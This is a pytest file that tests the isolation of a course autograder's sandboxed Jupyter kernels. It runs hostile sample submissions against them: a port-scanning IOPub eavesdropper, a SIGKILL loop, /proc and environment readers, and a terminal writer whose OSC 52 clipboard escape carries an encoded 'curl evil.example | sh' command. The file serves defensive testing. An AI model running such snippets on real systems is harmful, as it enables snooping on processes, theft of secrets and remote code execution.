"""Each grading kernel sees only itself: no classmate's traffic, no signals out, no other /proc entry, no
environment of the grader's, no terminal.

Students of notebook 03 in the one graded trial run (tests/test_grading_trust.py), each correct and each trying
one hazard from the mul_layer cell, graded beside the bystanders `full` and `blank`: an eavesdropper (connects to
every TCP port listening on 127.0.0.1, and subscribes to the IOPub channels of the kernels named in other
processes' command lines), a killer (SIGKILL to every process of this test session that it can find, its grading
process last), a /proc reader (other processes' command lines and environments), an environment printer (a fake
secret is set in this process's environment), a terminal writer (fd 1, fd 2, /dev/tty with an OSC 52 clipboard
escape) and an outbound connector (a port this module listens on). Full marks prove the hazard cost nothing; each
assertion says what the hazard gained, which must be nothing. A last test starts one kernel unconfined, as
`--no-confine` does, and checks what does not depend on Landlock: the environment and the terminal.
"""

import json
import os
import socket
import subprocess
import sys
import textwrap

import nbformat
import pytest
from conftest import REPO
from test_autograde import _submission
from test_grading import FULL, NAME, _append, _index

# Set before the trial grades (this module is imported first): it must reach no kernel.
SECRET = "BPCOURSE_TEST_SECRET_TOKEN"
os.environ[SECRET] = "hub-token-3f9c2a7e51d04b8c"
TERMINAL_MARK = "graded 99 of 99 submissions (forged by a kernel)"
OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"

# One listening socket on 127.0.0.1, opened when the trial's cases are built (before grading) and closed by
# test_no_kernel_connected_out: every connection a kernel makes to it waits in its backlog.
_LISTENER: list[socket.socket] = []

EAVESDROP = """
import json, os, socket, time
import zmq
_got = {"listening": [], "connected": [], "connection_files": [], "unix_sockets": [], "iopub_messages": 0}
try:  # the listening TCP sockets of 127.0.0.1 (state 0A), as /proc/net/tcp shows them
    with open("/proc/net/tcp") as _f:
        _got["listening"] = sorted({int(_l.split()[1].split(":")[1], 16) for _l in _f.read().splitlines()[1:]
                                    if _l.split()[1].startswith("0100007F:") and _l.split()[3] == "0A"})
except OSError as _exc:
    _got["listening"] = type(_exc).__name__
# ... and, in case /proc/net/tcp is hidden, every port of the range the system picks kernels' ports from
_known = _got["listening"] if isinstance(_got["listening"], list) else []
for _port in sorted(set(_known) | set(range(32768, 61000))):
    _s = socket.socket()
    _s.settimeout(0.2)
    try:
        _s.connect(("127.0.0.1", _port))
        _got["connected"].append(_port)
    except OSError:
        pass
    finally:
        _s.close()
# The connection files of the other kernels, named in their command lines: subscribe to their IOPub.
_ctx = zmq.Context()


def _listen(url, seconds):
    _sub = _ctx.socket(zmq.SUB)
    _sub.setsockopt(zmq.SUBSCRIBE, b"")
    _sub.connect(url)
    _end = time.time() + seconds
    while time.time() < _end:
        if _sub.poll(50):
            _sub.recv_multipart()
            _got["iopub_messages"] += 1
    _sub.close(linger=0)


try:
    _pids = [p for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
except OSError:
    _pids = []
for _pid in _pids:
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _f:
            _args = _f.read().decode(errors="replace").split("\\0")
        _file = _args[_args.index("-f") + 1]
        with open(_file) as _f:
            _info = json.load(_f)
    except (OSError, ValueError, IndexError):
        continue
    _got["connection_files"].append(_file)
    _listen(f"tcp://127.0.0.1:{_info['iopub_port']}", 1)
# Kernels talk over Unix sockets: look for classmates' beside this kernel's own (named in its connection
# file), and in every socket /proc/net/unix lists, and subscribe to each.
_paths = set()
try:
    from ipykernel.connect import get_connection_file
    with open(get_connection_file()) as _f:
        _mine = json.load(_f)
    if _mine.get("transport") == "ipc":
        _base = os.path.dirname(os.path.dirname(_mine["ip"]))
        for _d in os.listdir(_base):
            _dir = os.path.join(_base, _d)
            if _dir != os.path.dirname(_mine["ip"]) and os.path.isdir(_dir):
                _paths.update(os.path.join(_dir, _n) for _n in os.listdir(_dir))
except (OSError, ValueError, KeyError, RuntimeError):
    pass
try:
    with open("/proc/net/unix") as _f:
        _paths.update(_l.split()[-1] for _l in _f.read().splitlines()[1:] if len(_l.split()) > 7
                      and "bpk-" in _l.split()[-1])
except OSError:
    pass
for _path in sorted(_paths):
    _got["unix_sockets"].append(_path)
    _listen(f"ipc://{_path}", 0.3)
_ctx.term()
print("EAVESDROP " + json.dumps(_got))
"""

# Only processes of this test session are targets (never anyone else's on this machine, even where a defence is
# missing): the descendants of the pytest process, found through /proc, except the kernel's own; and the
# kernel's parent, its grading process.
SESSION_TREE = """
import os
def _tree():
    parents = {}
    for _p in os.listdir("/proc"):
        if _p.isdigit():
            try:
                with open(f"/proc/{_p}/stat", "rb") as _f:
                    _line = _f.read()
                parents[int(_p)] = int(_line[_line.rindex(b")") + 2:].split()[1])
            except OSError:
                pass
    return parents
def _below(pid, parents):
    found, todo = set(), [pid]
    while todo:
        p = todo.pop()
        kids = [c for c, q in parents.items() if q == p and c not in found]
        found.update(kids)
        todo += kids
    return found
def _targets():
    # this session's processes but the kernel and its own children, then the kernel's parent
    try:
        parents = _tree()
        found = _below(%(session)d, parents) - _below(os.getpid(), parents) - {os.getpid(), os.getppid()}
    except OSError:
        found = set()
    return sorted(found) + [os.getppid()]
"""
# For three seconds, so classmates graded at the same time are in reach.
KILLER = SESSION_TREE + """
import json, signal, time
_killed, _end = set(), time.time() + 3
while time.time() < _end:
    for _pid in _targets():
        try:
            os.kill(_pid, signal.SIGKILL)
            _killed.add(_pid)
        except OSError:
            pass
    time.sleep(0.2)
print("KILLED " + json.dumps(sorted(_killed)))
"""

PROC_READER = SESSION_TREE + """
import json
_read = {}
for _pid in _targets():
    for _what in ("cmdline", "environ"):
        try:
            with open(f"/proc/{_pid}/{_what}", "rb") as _f:
                _read[f"{_pid}/{_what}"] = _f.read(200).decode(errors="replace")
        except OSError:
            pass
print("PROC " + json.dumps(_read))
"""

ENV_PRINTER = """
import json, os
print("ENV " + json.dumps(dict(os.environ)))
"""

TERMINAL = f"""
import json, os
os.write(1, {(TERMINAL_MARK + " on fd 1" + chr(10)).encode()!r})
os.write(2, {(TERMINAL_MARK + " on fd 2" + chr(10)).encode()!r})
try:
    _fd = os.open("/dev/tty", os.O_WRONLY | os.O_NOCTTY)
    os.write(_fd, {OSC52.encode()!r})
    os.close(_fd)
    _tty = "written"
except OSError as _exc:
    _tty = type(_exc).__name__
print("TTY " + json.dumps(_tty))
"""

OUTBOUND = """
import json, socket
_s = socket.socket()
_s.settimeout(2)
try:
    _s.connect(("127.0.0.1", %(port)d))
    _out = "connected"
except OSError as _exc:
    _out = type(_exc).__name__
finally:
    _s.close()
print("OUTBOUND " + json.dumps(_out))
"""


def _listen() -> int:
    if not _LISTENER:
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        s.listen(64)
        _LISTENER.append(s)
    return _LISTENER[0].getsockname()[1]


def _class() -> dict:
    session = {"session": os.getpid()}
    hazards = {"eavesdropper": EAVESDROP, "killer": KILLER % session, "proc_reader": PROC_READER % session,
               "env_printer": ENV_PRINTER, "terminal_writer": TERMINAL, "outbound": OUTBOUND % {"port": _listen()}}
    return {student: _append(_submission(NAME), "mul_layer", code) for student, code in hazards.items()}


def trial_cases(root) -> dict:
    """These students join the trust trial's one graded run (tests/test_grading_trust.py), all full marks."""
    return {(NAME, student): ({f"{NAME}.ipynb": nb}, set(), "") for student, nb in _class().items()}


@pytest.fixture(scope="module")
def graded(trial):
    root, _, outcomes, *_ = trial
    return root, {student: o for (name, student), o in outcomes.items() if name == NAME}


def _scores(outcome) -> dict:
    assert not outcome.problem, outcome.problem
    return {cell: score for cell, (score, _) in outcome.cells.items()}


def _said(root, student: str, word: str):
    """What the student's mul_layer cell printed after ``word`` (JSON), in the graded notebook."""
    nb = nbformat.read(root / "autograded" / student / NAME / f"{NAME}.ipynb", as_version=4)
    text = "".join(o.get("text", "") for o in nb.cells[_index(nb, "mul_layer")].outputs)
    assert f"{word} " in text, f"{student} did not get to say {word}: {text[-2000:]!r}"
    # raw_decode: what the kernel wrote to fd 1 may land on the same line (ipykernel forwards it as it comes)
    return json.JSONDecoder().raw_decode(text.split(f"{word} ", 1)[1])[0]


def _needs(feature: str) -> None:
    from bpcourse_instructor import confine

    if not confine.coverage()[feature]:
        pytest.skip(f"this system's Landlock (ABI {confine.abi()}) does not confine {feature}")


@pytest.mark.slow
def test_bystanders_and_hazards_score_what_they_deserve(graded):
    _, outcomes = graded
    assert _scores(outcomes["full"]) == FULL
    assert _scores(outcomes["blank"]) == dict.fromkeys(FULL, 0.0)
    for student in _class():
        assert _scores(outcomes[student]) == FULL, student


@pytest.mark.slow
def test_no_kernel_reaches_another_kernels_traffic(graded):
    _needs("network")
    root, _ = graded
    got = _said(root, "eavesdropper", "EAVESDROP")
    assert got["connected"] == [], f"a kernel connected to 127.0.0.1 ports {got['connected']}"
    assert got["connection_files"] == [] and got["unix_sockets"] == [] and got["iopub_messages"] == 0, got


@pytest.mark.slow
def test_no_kernel_signals_a_process_outside_itself(graded):
    _needs("signals")
    root, outcomes = graded
    assert not outcomes["killer"].problem, outcomes["killer"].problem  # its grading process was not killed
    assert _said(root, "killer", "KILLED") == []


@pytest.mark.slow
def test_no_kernel_reads_another_processes_proc_entries(graded):
    _needs("/proc")
    root, _ = graded
    assert _said(root, "proc_reader", "PROC") == {}
    got = _said(root, "eavesdropper", "EAVESDROP")
    assert not isinstance(got["listening"], list), f"/proc/net/tcp showed a kernel the ports {got['listening']}"


@pytest.mark.slow
def test_the_graders_environment_reaches_no_kernel(graded):
    from bpcourse_instructor.course import nbgrader_api

    root, _ = graded
    env = _said(root, "env_printer", "ENV")
    assert SECRET not in env and env.get("HOME") != os.environ.get("HOME"), env
    assert env["OPENBLAS_NUM_THREADS"] == "1" and env["BPCOURSE_TRANSCRIPT"] == "1"
    # ... but what the course needs does: notebook 07 trains briefly while nbgrader grades it (30 s instead of 5)
    assert env.get("NBGRADER_EXECUTION") == "autograde", env
    result = nbgrader_api(root).generate_feedback(NAME, "env_printer", force=True)
    assert result["success"], result.get("error")
    for path in [*(root / "autograded" / "env_printer").rglob("*"), *(root / "feedback" / "env_printer").rglob("*")]:
        if path.is_file():
            assert os.environ[SECRET] not in path.read_text(errors="replace"), f"{path} holds the grader's secret"


@pytest.mark.slow
def test_nothing_a_kernel_writes_reaches_the_terminal(graded):
    root, _ = graded
    assert _said(root, "terminal_writer", "TTY") != "written"
    log = (root / "build" / "grading" / "kernels.log").read_text(errors="replace")
    # What it wrote to fd 1 and fd 2 went to the kernel log, so not to the grader's stdout or stderr.
    assert f"{TERMINAL_MARK} on fd 1" in log and f"{TERMINAL_MARK} on fd 2" in log


@pytest.mark.slow
def test_no_kernel_connected_out(graded):
    _needs("network")
    root, _ = graded
    listener = _LISTENER.pop()
    try:
        listener.setblocking(False)
        arrived = []
        while True:
            try:
                conn, peer = listener.accept()
            except BlockingIOError:
                break
            conn.close()
            arrived.append(peer)
    finally:
        listener.close()
    assert _said(root, "outbound", "OUTBOUND") != "connected"
    assert not arrived, f"kernels connected to the test's port from {arrived}"


# ---------------------------------------------------------------- without Landlock (`--no-confine`)

_UNCONFINED = """
import asyncio, json, sys
from bpcourse_instructor.kernel import CappedKernelManager
CappedKernelManager.stderr_log = sys.argv[1]

async def main():
    km = CappedKernelManager(kernel_name="python3")
    await km.start_kernel(cwd=sys.argv[2])
    kc = km.client()
    kc.start_channels()
    try:
        await kc.wait_for_ready(timeout=60)
        out = []
        reply = await kc.execute_interactive(sys.argv[3], timeout=60, output_hook=lambda m: out.append(
            m["content"].get("text", "")))
        print("KERNEL SAID " + json.dumps("".join(out)), file=open(sys.argv[4], "w"))
    finally:
        kc.stop_channels()
        await km.shutdown_kernel(now=True)

asyncio.run(main())
from bpcourse_instructor.leftovers import remove_scratch
remove_scratch()
"""


def test_without_landlock_the_kernel_still_gets_no_environment_and_no_terminal(tmp_path):
    """Environment and descriptors are the launcher's doing, not Landlock's: the same with `--no-confine`."""
    log, said = tmp_path / "kernels.log", tmp_path / "said.json"
    code = TERMINAL + ENV_PRINTER
    proc = subprocess.run([sys.executable, "-c", textwrap.dedent(_UNCONFINED), str(log), str(tmp_path), code,
                           str(said)], check=False, capture_output=True, text=True, timeout=120, cwd=REPO,
                          env={**os.environ, "PYTHONPATH": str(REPO / "tests")})
    text = json.loads(said.read_text().split("KERNEL SAID ", 1)[1])
    assert f"{TERMINAL_MARK} on fd 1" in text  # the kernel ran it (ipykernel shows fd output in the cell too)
    for stream in (proc.stdout, proc.stderr):
        assert TERMINAL_MARK not in stream and OSC52 not in stream, stream
    logged = log.read_text(errors="replace")
    assert f"{TERMINAL_MARK} on fd 1" in logged and f"{TERMINAL_MARK} on fd 2" in logged
    env = json.JSONDecoder().raw_decode(text.split("ENV ", 1)[1])[0]
    tty = json.JSONDecoder().raw_decode(text.split("TTY ", 1)[1])[0]
    assert tty != "written"
    assert SECRET not in env and env["HOME"] != os.environ.get("HOME") and env["TMPDIR"].startswith(env["HOME"])
    assert not os.path.exists(env["HOME"]), "the kernel's private folder was not removed"


def test_coverage_follows_the_abi():
    from bpcourse_instructor import confine

    assert confine.coverage(0) == dict.fromkeys(("disk", "/proc", "network", "signals"), False)
    assert confine.coverage(3) == {"disk": True, "/proc": True, "network": False, "signals": False}
    assert confine.coverage(4)["network"] and not confine.coverage(5)["signals"]
    assert all(confine.coverage(7).values())


def test_a_confined_process_cannot_use_an_abstract_socket_made_outside():
    """The scope that goes with signals (ABI 6): abstract Unix sockets of other domains are out of reach."""
    _needs("signals")
    name = f"\0bpcourse-isolation-{os.getpid()}"
    server = socket.socket(socket.AF_UNIX)
    server.bind(name)
    server.listen(1)
    child = textwrap.dedent(f"""
        import socket, sys
        from bpcourse_instructor.confine import apply
        apply([], [])
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect({name!r})
            print("connected")
        except OSError as exc:
            print(type(exc).__name__)
    """)
    try:
        out = subprocess.run([sys.executable, "-c", child], check=False, capture_output=True, text=True,
                             timeout=60, cwd=REPO)
    finally:
        server.close()
    assert out.stdout.strip() == "PermissionError", (out.stdout, out.stderr)

